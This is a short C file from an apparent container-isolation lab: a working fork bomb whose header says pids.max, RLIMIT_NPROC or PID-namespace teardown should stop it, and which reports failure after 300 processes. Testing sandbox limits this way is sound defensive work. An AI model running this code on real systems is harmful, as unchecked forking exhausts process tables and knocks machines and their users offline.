/* SPDX-License-Identifier: MIT */
/*
 * fork-bomb.c - forks for ever
 *
 * Attack: fork bomb
 * Lab: 02-mount-ns
 * Stopped: pids.max or RLIMIT_NPROC; the PID namespace dies with its PID
 *          1
 */
#include <stdatomic.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

enum { FAR_TOO_MANY = 300 };

int main(void)
{
	atomic_int *count = mmap(NULL, sizeof(*count), PROT_READ | PROT_WRITE,
				 MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	for (;;) {
		/* None of them ever ends. */
		if (fork() == 0 && ++*count == FAR_TOO_MANY)
			fputs("BROKEN: hundreds of processes\n", stderr);
	}
}
